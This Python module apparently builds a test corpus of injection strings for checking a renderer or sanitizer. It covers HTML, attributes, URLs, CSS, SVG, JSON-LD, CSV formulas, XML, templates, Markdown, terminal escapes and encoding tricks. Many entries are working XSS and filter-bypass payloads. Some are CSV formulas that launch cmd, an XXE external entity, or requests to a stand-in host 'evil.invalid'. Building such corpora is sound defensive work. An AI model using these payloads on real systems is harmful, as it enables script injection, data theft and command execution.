"""Texts that get markup, script or a foreign request into a careless page, by the place that they aim at."""

EVIL = "evil.invalid"
MARK = "data-xss=1"
CALL = "window.xss=1"


def _text():
    yield f"<script>{CALL}</script>"
    for tag in ("ScRiPt", "SCRIPT", "script/x", "script\n", "script\t", "script src=//" + EVIL + "/x.js"):
        yield f"<{tag}>{CALL}</script>"
    yield f"<scr<script>ipt>{CALL}</scr</script>ipt>"
    yield f"<<script>{CALL}//<</script>"
    yield f"<script {MARK}>{CALL}"
    handlers = {
        "img src=x": "onerror", "image src=x": "onerror", "video src=x": "onerror", "audio src=x": "onerror",
        "video><source": "onerror", "svg": "onload", "body": "onload", "iframe": "onload", "object data=x": "onerror",
        "embed src=x": "onload", "details open": "ontoggle", "input autofocus": "onfocus", "select autofocus": "onfocus",
        "textarea autofocus": "onfocus", "button autofocus": "onfocus", "a href=# autofocus tabindex=0": "onfocus",
        "marquee": "onstart", "link rel=stylesheet href=x": "onerror", "div style=animation:x": "onanimationstart",
        "p tabindex=1 autofocus": "onfocus", "math href=x": "onclick", "dialog open": "onclose", "form": "onsubmit",
        "keygen autofocus": "onfocus", "isindex": "onfocus", "template": "onload", "frameset": "onload", "bgsound": "onload",
    }
    for tag, handler in handlers.items():
        yield f"<{tag} {MARK} {handler}={CALL}>"
        yield f"<{tag.upper()}/{MARK}/{handler.upper()}='{CALL}'>"
    for tag in ("iframe srcdoc='<script>parent.xss=1</script>'", f"iframe src=javascript:{CALL}", f"base href=//{EVIL}/",
                f"meta http-equiv=refresh content='0;url=javascript:{CALL}'", f"link rel=stylesheet href=//{EVIL}/x.css",
                f"meta http-equiv=refresh content='0;url=http://{EVIL}/'", f"img src=//{EVIL}/pixel", f"form action=//{EVIL}/",
                f"link rel=preconnect href=//{EVIL}", f"portal src=//{EVIL}", f"applet code=//{EVIL}/x"):
        yield f"<{tag} {MARK}>"
    for closing in ("title", "textarea", "style", "noscript", "xmp", "template", "select", "option", "main", "body", "html", "p",
                    "td", "table", "a", "details", "summary", "svg", "desc", "figcaption", "script", "head", "plaintext"):
        yield f"</{closing}><img src=x {MARK} onerror={CALL}>"
    for opening in ("<!--", "<![CDATA[", "<?", "<!", "</", "<plaintext>", "<xmp>", "<textarea>", "<title>", "<noscript>", "-->", "--!>"):
        yield f"{opening}<img src=x {MARK} onerror={CALL}>"


def _attribute():
    handlers = ("onmouseover", "onfocus", "onerror", "onload", "onclick", "onpointerenter", "ontoggle", "onbeforetoggle")
    for quote in ('"', "'", "`", '\\"', "&quot;", "&#34;", '"/'):
        for handler in handlers:
            yield f"{quote} {MARK} {handler}={CALL} autofocus tabindex=1 x={quote}"
    for quote in ('"', "'", ""):
        yield f"{quote}><img src=x {MARK} onerror={CALL}>"
        yield f"{quote}>{quote}<svg {MARK} onload={CALL}>"
        yield f"x{quote} style={quote}background:url(//{EVIL}/a){quote} {MARK} x={quote}"
        yield f"x{quote} srcset={quote}//{EVIL}/s 2x{quote} {MARK} x={quote}"


def _url():
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:", "\x01javascript:", " javascript:",
                   "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "&#106;avascript:", "&#x6A;avascript:", "jav&Tab;ascript:",
                   "jav&NewLine;ascript:", "javascript\x0b:", "javascript :", "javascript\u00a0:", "\u200bjavascript:", "\ufeffjavascript:",
                   "%6aavascript:", "javascript%3a", "vbscript:", "livescript:", "view-source:javascript:", "feed:javascript:",
                   "https:javascript:", "java\\script:", "\\6aavascript:", "j\u0430vascript:"):
        yield scheme + CALL
    for address in ("data:text/html,<script>parent.xss=1</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzPTE8L3NjcmlwdD4=",
                    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>", "DATA:text/html,x", f"//{EVIL}/a",
                    f"\\\\{EVIL}\\a", f"/\\{EVIL}/a", f"/\t/{EVIL}/a", f"http:{EVIL}", f"file://{EVIL}/a", f"blob:https://{EVIL}/a",
                    f"filesystem:https://{EVIL}/a", f"https://example.org@{EVIL}/", f"javascript://{EVIL}/%0a{CALL}",
                    f"https://example.org/\" {MARK} onclick={CALL} x=\"", f"https://example.org/' {MARK} onclick={CALL} x='",
                    "mailto:a@example.org?subject=\"><script>window.xss=1</script>", "about:srcdoc", "ws://" + EVIL, "ftp://" + EVIL):
        yield address


def _css():
    yield f"</style><img src=x {MARK} onerror={CALL}>"
    yield f"</STYLE ><script>{CALL}</script>"
    yield "<!--</style>--><script>window.xss=1</script>"
    for rule in (f"background:url(//{EVIL}/a)", f"background:url('javascript:{CALL}')", f"width:expression({CALL})", f"@import '//{EVIL}/a.css'",
                 f"-moz-binding:url(//{EVIL}/a)", f"behavior:url(//{EVIL}/a)", f"list-style:url(//{EVIL}/a)", f"content:url(//{EVIL}/a)",
                 f"cursor:url(//{EVIL}/a),auto", f"\\62 ackground:u\\72l(//{EVIL}/a)", f"background:image-set('//{EVIL}/a' 1x)"):
        yield f"red;{rule}"
        yield f"}} body {{ {rule} }} a {{"
    yield f"*/ body {{ background: url(//{EVIL}/a) }} /*"


def _svg():
    for inside in (f"<script>{CALL}</script>", f"<script href=//{EVIL}/x.js />", f"<foreignObject><img src=x {MARK} onerror={CALL}></foreignObject>",
                   f"<use href=//{EVIL}/a.svg#x />", f"<use href='data:image/svg+xml,<svg id=x onload={CALL} />#x'/>",
                   f"<animate attributeName=href values=javascript:{CALL} />", f"<set attributeName=onload to={CALL} />",
                   f"<a xlink:href=javascript:{CALL}><text>x</text></a>", f"<image href=//{EVIL}/a.png onerror={CALL} />",
                   f"<style>@import '//{EVIL}/a.css'</style>", f"<animate onbegin={CALL} attributeName=x dur=1s />",
                   f"<handler xmlns:ev=x ev:event=load>{CALL}</handler>", f"<feImage href=//{EVIL}/a />", f"<title><script>{CALL}</script></title>"):
        yield f"<svg {MARK}>{inside}</svg>"
        yield f"</text></svg><svg {MARK} xmlns=http://www.w3.org/2000/svg>{inside}"
    yield f"<math {MARK}><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table></mtext></math>"
    yield f"<svg></p><style><a id='</style><img src=x {MARK} onerror={CALL}>'>"


def _json():
    for closing in ("</script>", "</SCRIPT>", "</script ", "</script\n>", "<!--<script>", "\\u003c/script>", "&lt;/script>"):
        yield f"{closing}<script>{CALL}</script>"
    for ending in ('"}', '"}]}', '\\"}', "\\", "'}", '"},{"@type":"Person"}', "\u2028", "\u2029", "\\u2028", "]]>"):
        yield f"{ending};{CALL}//"
    yield f'","@context":"//{EVIL}/","x":"'
    yield '{"$ref": "#/"}'
    yield '__proto__'
    yield 'constructor'


def _formula():
    for first in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20", '"=', "';=", ",=", ";=", "'="):
        yield f"{first}cmd|' /C calc'!A0"
    yield f'=HYPERLINK("http://{EVIL}/?"&A1,"open")'
    yield f'@SUM(1+1)*cmd|x'
    yield f'=IMPORTXML("http://{EVIL}/","//a")'
    yield f'x","=WEBSERVICE(""http://{EVIL}/"")'
    yield "x\n=1+1"


def _xml():
    for markup in ("]]>", "<![CDATA[", f"<!DOCTYPE x [<!ENTITY e SYSTEM 'http://{EVIL}/a'>]>&e;", f"<?xml-stylesheet href='http://{EVIL}/a.xsl'?>",
                   "&e;", "&#0;", "&#x1F;", "&amp;lt;script&amp;gt;", f"&lt;script&gt;{CALL}&lt;/script&gt;", "&#60;script&#62;window.xss=1",
                   f"</title><link href='http://{EVIL}/'/>", f"</content></entry><entry><id>http://{EVIL}/</id>", "</urlset>", "</summary>",
                   f"<content type='html'>&lt;img src=x onerror={CALL}&gt;", "&quot;&apos;&gt;", f"<xhtml:script>{CALL}</xhtml:script>"):
        yield markup + "x"


def _template():
    for markup in ("{{title}}", "{{{title}}}", "{{&title}}", "{{> head}}", "{{#pages}}x{{/pages}}", "{{^x}}y{{/x}}", "{{=<% %>=}}", "{{!", "}}",
                   "${window.xss=1}", "<%= 7*7 %>", "{% raw %}", "#{7*7}"):
        yield markup + "x"


def _markdown():
    for address in (f"javascript:{CALL}", f"JAVASCRIPT:{CALL}", f"java&Tab;script:{CALL}", f"&#106;avascript:{CALL}", "data:text/html,x", f"vbscript:{CALL}",
                    f"//{EVIL}/a", f"https://{EVIL}/\"onclick={CALL}"):
        yield f"[x]({address})"
        yield f"[x](<{address}>)"
        yield f"![x]({address})"
        yield f"<{address}>"
        yield f"[x][r] [r]: {address}"
    yield f'[x](https://example.org "\\" {MARK} onclick={CALL} x=\\"")'
    yield f"[x](https://example.org '\" {MARK} onclick={CALL} x=\"')"
    yield f"`</code><img src=x {MARK} onerror={CALL}>`"
    yield f"![x\" {MARK} onerror={CALL} x=\"](x.png)"
    yield f"[^<img src=x {MARK} onerror={CALL}>]"
    yield f"# <img src=x {MARK} onerror={CALL}> {{#x onclick={CALL}}}"
    yield f"| <img src=x {MARK} onerror={CALL}> | [x](javascript:{CALL}) |"
    yield f"[words](lang:\"{MARK})"
    yield f"[x](figure:\"><img src=x {MARK} onerror={CALL}>)"


def _terminal():
    for bytes in ("\x1b]0;title\x07", "\x1b[2J", "\x1b[31m", f"\x1b]8;;http://{EVIL}\x1b\\link\x1b]8;;\x1b\\", "\x9b2J", "\x9d0;title\x9c", "\x07", "\x08\x08",
                  "\x7f", "\r", "\u202e", "\u2066", "\u200f", "\x1bP", "\x1b[6n", "\x1b]52;c;eA==\x07", "\n::error::x", "\n::set-output name=x::y",
                  "\n##[command]x", "\x00"):
        yield f"before{bytes}after"


def _encoding():
    for text in ("+ADw-script+AD4-window.xss=1+ADw-/script+AD4-", "\uff1cscript\uff1ewindow.xss=1\uff1c/script\uff1e", "%3Cscript%3Ewindow.xss=1%3C/script%3E",
                 "\\x3cscript\\x3ewindow.xss=1", "\\u003cscript\\u003ewindow.xss=1", "&lt;script&gt;window.xss=1&lt;/script&gt;", "\u02c2img src=x onerror=window.xss=1\u02c3",
                 "\u2039script\u203awindow.xss=1", "\u300cscript\u300d", "<\u0000script>window.xss=1</script>", "<scr\u0000ipt>window.xss=1</script>",
                 "<\u200bscript>window.xss=1</script>", "<script\u2028>window.xss=1</script>", "\ud7ffx<img src=x onerror=window.xss=1>",
                 "<\u0130mg src=x onerror=window.xss=1>", "<\u017fcript>window.xss=1</\u017fcript>"):
        yield text


CLASSES = {
    "text": _text, "attribute": _attribute, "URL": _url, "CSS": _css, "SVG": _svg, "JSON-LD": _json, "CSV formula": _formula,
    "Atom and XML": _xml, "template": _template, "Markdown": _markdown, "terminal": _terminal, "encoding": _encoding,
}
INJECTIONS = [(name, text) for name, made in CLASSES.items() for text in dict.fromkeys(made())]
